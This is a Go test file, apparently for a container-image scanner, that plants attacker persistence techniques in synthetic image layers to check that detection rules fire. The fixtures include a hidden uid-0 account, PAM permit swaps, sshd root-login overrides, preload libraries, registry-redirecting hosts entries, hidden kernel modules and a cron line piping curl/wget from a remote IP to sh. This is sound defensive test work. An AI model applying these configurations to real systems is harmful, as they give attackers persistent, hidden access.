@@ -1,0 +1,138 @@
+package rules
+
+import (
+	"testing"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+)
+
+// kmod is the start of a kernel module as the kernel's build writes it:
+// an ELF relocatable object with a .modinfo section.
+func kmod(name string) string {
+	return "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x3e\x00" +
+		"\x00license=GPL\x00name=" + name + "\x00vermagic=6.1.0-18-amd64 SMP preempt mod_unload modversions \x00"
+}
+
+// variantImages plants issue 16's techniques as the TeamTNT, Kinsing and
+// WatchDog reports show them, in the variants a rule written for one
+// spelling misses: an account added to passwd by a later layer, a drop-in
+// read before the main file's own setting, a PAM stack whose deny was
+// swapped for permit behind an include, a hidden program started by a
+// user's @reboot, a preload of a hidden library, registries and mirrors in
+// hosts, trusted apt sources in both formats, language indexes over HTTP
+// in the files pip and npm read besides /etc, kernel modules shipped
+// outside the module directories. Each beside look-alikes that give
+// nothing.
+func variantImages(t testing.TB, base v1.Layer) []plantedImage {
+	var out []plantedImage
+	add := func(repo string, cfg func(*v1.ConfigFile), layers []v1.Layer, hits ...hit) {
+		out = append(out, plantedImage{testImage{repo: repo, layers: append([]v1.Layer{base}, layers...), config: cfg}, hits})
+	}
+	one := func(ents ...ent) []v1.Layer { return []v1.Layer{layerOf(t, ents...)} }
+
+	// A second uid-0 account appended to passwd by a later layer (uid
+	// written 00); sync, nobody and an ordinary account are not.
+	add("test/v-uid0-later", nil, []v1.Layer{
+		layerOf(t, ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\n"}),
+		layerOf(t, ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\nsystemd-network:x:00:0::/var/lib/.n:/bin/bash\n"}),
+	}, hit{rule: "account-extra-uid0", path: "/etc/passwd", layer: 2})
+
+	// A drop-in read before the main file's own "no"; the look-alike sets
+	// "no" before its Include, and its second drop-in loses to the first.
+	add("test/v-sshd-order", nil, one(
+		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\n"},
+		ent{name: "etc/ssh/sshd_config.d/00-cloud.conf", body: "PermitRootLogin yes\n"}),
+		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config.d/00-cloud.conf", layer: 1})
+	add("test/v-sshd-order-ok", nil, one(
+		ent{name: "etc/ssh/sshd_config", body: "PermitRootLogin no\nInclude /etc/ssh/sshd_config.d/*.conf\n"},
+		ent{name: "etc/ssh/sshd_config.d/10-a.conf", body: "PermitRootLogin yes\nPermitEmptyPasswords no\n"},
+		ent{name: "etc/ssh/sshd_config.d/20-b.conf", body: "PermitEmptyPasswords yes\n"}))
+
+	// common-auth with its pam_deny swapped for pam_permit, read by sshd
+	// through @include; Debian's stock stack and su's rootok are not.
+	add("test/v-pam-include", nil, one(
+		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_permit.so\nauth\trequired\t\t\tpam_permit.so\n"},
+		ent{name: "etc/pam.d/sshd", body: "@include common-auth\naccount required pam_nologin.so\n@include common-account\n"}),
+		hit{rule: "pam-accepts-anyone", path: "/etc/pam.d/common-auth", layer: 1})
+	add("test/v-pam-ok", nil, one(
+		ent{name: "etc/pam.d/common-auth", body: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\nauth\toptional\t\t\tpam_cap.so\n"},
+		ent{name: "etc/pam.d/su", body: "auth sufficient pam_rootok.so\n@include common-auth\n"}))
+
+	// A user's crontab starting a hidden program at boot, root's fetching
+	// with a fallback; a nightly backup job is not.
+	add("test/v-cron-spool", nil, one(
+		ent{name: "var/spool/cron/crontabs/www-data", body: "@reboot /var/tmp/.sys/kworkerd >/dev/null 2>&1\n"},
+		ent{name: "var/spool/cron/crontabs/root", body: "*/5 * * * * (curl -fsSL http://198.51.100.20/x||wget -q -O- http://198.51.100.20/x)|sh\n"},
+		ent{name: "var/spool/cron/crontabs/app", body: "0 3 * * * /usr/local/bin/backup.sh --to /srv/backup\n"}),
+		hit{rule: "autostart-runs-hidden-file", path: "/var/spool/cron/crontabs/www-data", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/var/spool/cron/crontabs/root", layer: 1},
+		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/www-data", layer: 1},
+		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/root", layer: 1},
+		hit{rule: "persistence-point", path: "/var/spool/cron/crontabs/app", layer: 1})
+
+	// ld.so.preload naming a hidden library, and LD_PRELOAD set for every
+	// login in /etc/environment; a comment and an LD_LIBRARY_PATH are not.
+	add("test/v-preload", nil, one(
+		ent{name: "etc/ld.so.preload", body: "# empty\n/usr/lib/x86_64-linux-gnu/.libsystemd-shared.so\n"},
+		ent{name: "usr/lib/x86_64-linux-gnu/.libsystemd-shared.so", body: elf("hide")},
+		ent{name: "etc/environment", body: "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\nLD_PRELOAD=/usr/local/lib/libprocesshider.so\n"},
+		ent{name: "etc/profile.d/java.sh", body: "export LD_LIBRARY_PATH=/opt/java/lib\n# export LD_PRELOAD=/opt/x.so\n"}),
+		hit{rule: "preload-library", path: "/etc/ld.so.preload", layer: 1},
+		hit{rule: "preload-library", path: "/etc/environment", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/ld.so.preload", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/environment", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/profile.d/java.sh", layer: 1})
+
+	// hosts sending a registry, its auth and CDN, and Kubernetes' registry
+	// elsewhere; localhost and an internal database are not.
+	add("test/v-hosts", nil, one(
+		ent{name: "etc/hosts", body: "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n203.0.113.7 registry-1.docker.io auth.docker.io\n" +
+			"198.51.100.3 registry.k8s.io\n10.0.0.4 production.cloudflare.docker.com\n10.0.0.2 db.internal\n"}),
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1},
+		hit{rule: "hosts-redirects-package-source", path: "/etc/hosts", layer: 1})
+
+	// apt sources trusted in both formats; a signed-by source is not.
+	add("test/v-apt", nil, one(
+		ent{name: "etc/apt/sources.list", body: "deb [ trusted=yes ] http://203.0.113.9/debian bookworm main\n"},
+		ent{name: "etc/apt/sources.list.d/extra.sources", body: "Types: deb\nURIs: http://203.0.113.9/repo\nSuites: stable\nComponents: main\nTrusted: yes\n"},
+		ent{name: "etc/apt/sources.list.d/docker.list", body: "deb [arch=amd64 signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable\n"}),
+		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list", layer: 1},
+		hit{rule: "package-source-untrusted", path: "/etc/apt/sources.list.d/extra.sources", layer: 1})
+
+	// pip's site configuration of the interpreter's prefix and a venv's,
+	// a user's pip.conf, a project's .npmrc and npm's global npmrc: over
+	// plain HTTP or trusting a host; an HTTPS index is not.
+	add("test/v-lang-index", nil, one(
+		ent{name: "usr/local/pip.conf", body: "[global]\nindex-url = http://203.0.113.10/simple\n"},
+		ent{name: "root/.config/pip/pip.conf", body: "[global]\nextra-index-url = http://pypi.example.net/simple\n"},
+		ent{name: "opt/venv/pip.conf", body: "[install]\ntrusted-host = pypi.example.net\n"},
+		ent{name: "app/.npmrc", body: "registry=http://203.0.113.11/\n"},
+		ent{name: "usr/local/etc/npmrc", body: "strict-ssl=false\n"},
+		ent{name: "etc/pip.conf", body: "[global]\nindex-url = https://pypi.org/simple\n"}),
+		hit{rule: "package-source-plain-http", path: "/usr/local/pip.conf", layer: 1},
+		hit{rule: "package-source-plain-http", path: "/root/.config/pip/pip.conf", layer: 1},
+		hit{rule: "package-source-untrusted", path: "/opt/venv/pip.conf", layer: 1},
+		hit{rule: "package-source-plain-http", path: "/app/.npmrc", layer: 1},
+		hit{rule: "secret-file-name", path: "/app/.npmrc", layer: 1},
+		hit{rule: "package-source-untrusted", path: "/usr/local/etc/npmrc", layer: 1})
+
+	// Kernel modules shipped outside the module directories, one named as
+	// a library, loaded by modules-load.d and by a unit; a module in
+	// /lib/modules nothing loads is not.
+	add("test/v-kmod", nil, one(
+		ent{name: "opt/.cache/drv.ko", body: kmod("drv")},
+		ent{name: "usr/lib/x86_64-linux-gnu/libudev.so.2", body: kmod("udevh")},
+		ent{name: "lib/modules/6.1.0-18-amd64/extra/ok.ko", body: kmod("ok")},
+		ent{name: "etc/modules-load.d/net.conf", body: "drv\n"},
+		ent{name: "etc/systemd/system/udev-helper.service", body: "[Service]\nType=oneshot\nExecStart=/sbin/insmod /usr/lib/x86_64-linux-gnu/libudev.so.2\n"}),
+		hit{rule: "kernel-module-outside-modules-dir", path: "/opt/.cache/drv.ko", layer: 1},
+		hit{rule: "executable-in-temp-or-hidden-dir", path: "/opt/.cache/drv.ko", layer: 1},
+		hit{rule: "kernel-module-outside-modules-dir", path: "/usr/lib/x86_64-linux-gnu/libudev.so.2", layer: 1},
+		hit{rule: "kernel-module-autoload", path: "/etc/modules-load.d/net.conf", layer: 1},
+		hit{rule: "kernel-module-loaded-at-start", path: "/etc/systemd/system/udev-helper.service", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/systemd/system/udev-helper.service", layer: 1})
+
+	return out
+}
